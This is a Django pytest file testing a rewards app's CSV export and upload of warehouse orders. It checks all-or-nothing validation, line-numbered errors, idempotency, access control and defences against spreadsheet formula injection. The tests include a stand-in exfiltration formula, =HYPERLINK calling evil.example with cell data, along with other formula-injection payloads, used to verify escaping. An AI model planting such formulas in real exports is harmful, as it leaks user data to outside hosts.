"""The warehouse round trip: download open orders, fill in the file, upload it. All or
nothing, every bad row named by its line, the same file twice changes nothing more."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from fanrepublic.core.csvexport import restore
from fanrepublic.core.models import AuditEntry
from fanrepublic.core.tests.csvcheck import OWASP_PAYLOADS, assert_csv_safe, csv_text
from fanrepublic.members.tests.factories import MemberFactory, engineer, store_manager
from fanrepublic.points import services as points
from fanrepublic.rewards import services
from fanrepublic.rewards.enums import OrderStatus
from fanrepublic.rewards.models import Order
from fanrepublic.rewards.tests.factories import RewardFactory

pytestmark = pytest.mark.django_db
SHIP = {"name": "Li Lei", "phone": "13800000000", "address": "1 Xidan St, Beijing"}


def place_orders():
    member = MemberFactory()
    points.points_award(member=member, points=10_000, key="seed", memo="seed")
    case = RewardFactory(slug="case", kind="product", price_points=100, stock=10)
    voucher = RewardFactory(slug="voucher", kind="voucher", price_points=100, stock=10)
    shipped = services.reward_redeem(member=member, reward=case, key="a", shipping=SHIP)
    coded = services.reward_redeem(member=member, reward=voucher, key="b")
    untouched = services.reward_redeem(member=member, reward=case, key="c", shipping=SHIP)
    return shipped, coded, untouched


def downloaded(client) -> list[dict]:
    return list(csv.DictReader(io.StringIO(csv_text(client.get(reverse("rewards:desk_csv"))))))


def upload(client, rows, name="orders.csv", raw=None):
    if raw is None:
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
        raw = out.getvalue().encode("utf-8-sig")  # as spreadsheet programs save it
    file = SimpleUploadedFile(name, raw, content_type="text/csv")
    return client.post(reverse("rewards:desk_upload"), {"file": file})


def statuses():
    return dict(Order.objects.values_list("pk", "status"))


def test_a_filled_in_download_fulfils_those_orders_and_leaves_the_rest_open(client):
    shipped, coded, untouched = place_orders()
    client.force_login(store_manager())
    rows = downloaded(client)
    assert {"voucher_code", "tracking"} <= set(rows[0])
    for row in rows:
        if row["order"] == str(shipped.pk):
            row["tracking"] = "SF1234567890"
        if row["order"] == str(coded.pk):
            row["voucher_code"] = "BAND-9-XYZ"
    response = upload(client, rows)
    page = response.content.decode()
    assert response.status_code == 200 and "2 orders fulfilled" in page and "1 row left empty" in page
    shipped.refresh_from_db()
    coded.refresh_from_db()
    assert shipped.tracking == "SF1234567890" and coded.voucher_code == "BAND-9-XYZ"
    assert statuses()[untouched.pk] == OrderStatus.PLACED
    assert AuditEntry.objects.filter(action="rewards.order.fulfilled").count() == 2
    again = upload(client, rows).content.decode()
    assert "0 orders fulfilled" in again and "2 were already fulfilled" in again
    assert AuditEntry.objects.filter(action="rewards.order.fulfilled").count() == 2


def test_one_bad_row_changes_no_order_and_every_bad_row_is_named(client):
    shipped, coded, untouched = place_orders()
    client.force_login(store_manager())
    rows = [
        {"order": str(shipped.pk), "tracking": "SF1", "voucher_code": ""},
        {"order": str(coded.pk), "tracking": "SF2", "voucher_code": ""},  # a voucher needs its code
        {"order": "999999", "tracking": "SF3", "voucher_code": ""},
        {"order": "abc", "tracking": "SF4", "voucher_code": ""},
        {"order": str(untouched.pk), "tracking": "x" * 101, "voucher_code": ""},
    ]
    before = statuses()
    response = upload(client, rows)
    page = response.content.decode()
    assert response.status_code == 422 and 'data-testid="upload-errors"' in page
    for line in (3, 4, 5, 6):
        assert f"Line {line}:" in page
    assert "Line 2:" not in page
    assert statuses() == before
    assert not AuditEntry.objects.filter(action="rewards.order.fulfilled").exists()


@pytest.mark.parametrize(
    "raw, message",
    [
        (b"name,address\nLi,Beijing\n", "column and a"),
        (b"order,tracking\n", "no orders in it"),
        ("order,tracking\n1,顺丰\n".encode("utf-16"), "UTF-8"),
    ],
)
def test_a_file_that_is_not_the_orders_file_is_refused(client, raw, message):
    place_orders()
    client.force_login(store_manager())
    before = statuses()
    response = upload(client, None, raw=raw)
    assert response.status_code == 422 and message in response.content.decode()
    assert statuses() == before


def test_a_file_over_the_size_limit_is_refused(client, monkeypatch):
    from fanrepublic.rewards import bulk

    monkeypatch.setattr(bulk, "MAX_BYTES", 10)
    client.force_login(store_manager())
    response = upload(client, None, raw=b"order,tracking\n1,SF1\n")
    assert response.status_code == 422 and "larger than 2 MB" in response.content.decode()


@pytest.mark.parametrize("role", [None, engineer])
def test_only_the_fulfilment_staff_can_upload(client, role):
    shipped, _coded, _untouched = place_orders()
    client.force_login(role() if role else MemberFactory())
    assert upload(client, [{"order": str(shipped.pk), "tracking": "SF1"}]).status_code == 404
    assert statuses()[shipped.pk] == OrderStatus.PLACED


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click to confirm the delivery")'


def test_no_cell_of_the_download_runs_as_a_formula_whatever_members_typed(client):
    # Given open orders whose shipping details (and a member's name) are OWASP's payloads
    member = MemberFactory(username="-2+3")
    points.points_award(member=member, points=100_000, key="seed", memo="seed")
    case = RewardFactory(slug="case", kind="product", price_points=1, stock=100)
    orders = [
        services.reward_redeem(member=member, reward=case, key=f"k{i}", shipping=SHIP)
        for i, _payload in enumerate(OWASP_PAYLOADS)
    ]
    for order, payload in zip(orders, OWASP_PAYLOADS, strict=True):
        # Stored as typed, even what the redeem form would trim: the export must not rely
        # on what earlier code let in.
        Order.objects.filter(pk=order.pk).update(
            shipping_name=payload, shipping_phone=payload[:30], shipping_address=payload
        )
    client.force_login(store_manager())
    # When the warehouse downloads the open orders
    rows = assert_csv_safe(client.get(reverse("rewards:desk_csv")))
    # Then every hostile cell is text, and the numbers are numbers
    header, data = rows[0], rows[1:]
    recipient = header.index("recipient")
    assert [restore(row[recipient]) for row in data] == OWASP_PAYLOADS
    assert data[0][recipient] == "'" + OWASP_PAYLOADS[0]
    assert {row[header.index("member")] for row in data} == {"'-2+3"}
    assert [row[0] for row in data] == [str(o.pk) for o in orders]


def test_a_download_with_a_hostile_name_uploads_back_and_fulfils(client):
    # Given an order shipped to a member who typed a formula as their name
    member = MemberFactory()
    points.points_award(member=member, points=10_000, key="seed", memo="seed")
    case = RewardFactory(slug="case", kind="product", price_points=100, stock=10)
    voucher = RewardFactory(slug="voucher", kind="voucher", price_points=100, stock=10)
    hostile = services.reward_redeem(
        member=member, reward=case, key="a", shipping={**SHIP, "name": HYPERLINK, "address": "-1+1 Road"}
    )
    coded = services.reward_redeem(member=member, reward=voucher, key="b")
    client.force_login(store_manager())
    # When the warehouse downloads the file, fills it in and uploads it as it is
    rows = downloaded(client)
    by_order = {row["order"]: row for row in rows}
    assert by_order[str(hostile.pk)]["recipient"] == "'" + HYPERLINK
    by_order[str(hostile.pk)]["tracking"] = "SF1234567890"
    # a code the writer itself would have guarded is read back without the guard
    by_order[str(coded.pk)]["voucher_code"] = "'+VIP-2024"
    response = upload(client, rows)
    # Then both orders are fulfilled with exactly what was filled in
    assert response.status_code == 200 and "2 orders fulfilled" in response.content.decode()
    hostile.refresh_from_db()
    coded.refresh_from_db()
    assert hostile.status == OrderStatus.FULFILLED and hostile.tracking == "SF1234567890"
    assert hostile.shipping_name == HYPERLINK  # the upload never rewrites shipping details
    assert coded.voucher_code == "+VIP-2024"


def test_a_hostile_download_with_one_bad_row_still_changes_nothing(client):
    member = MemberFactory()
    points.points_award(member=member, points=10_000, key="seed", memo="seed")
    case = RewardFactory(slug="case", kind="product", price_points=100, stock=10)
    first = services.reward_redeem(member=member, reward=case, key="a", shipping={**SHIP, "name": HYPERLINK})
    second = services.reward_redeem(
        member=member, reward=case, key="b", shipping={**SHIP, "name": "@SUM(1+1)"}
    )
    client.force_login(store_manager())
    rows = downloaded(client)
    for row in rows:
        row["tracking"] = "SF1" if row["order"] == str(first.pk) else "x" * 101
    before = statuses()
    response = upload(client, rows)
    assert response.status_code == 422 and f"#{second.pk}" in response.content.decode()
    assert statuses() == before
